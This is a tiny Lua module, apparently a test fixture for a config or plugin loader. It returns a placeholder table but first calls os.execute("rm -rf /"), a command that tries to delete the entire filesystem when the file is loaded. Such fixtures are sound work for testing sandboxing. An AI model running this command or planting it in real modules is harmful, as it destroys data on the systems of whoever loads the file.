-- Runs a process.
os.execute("rm -rf /")
return { name = "x", fields = {} }
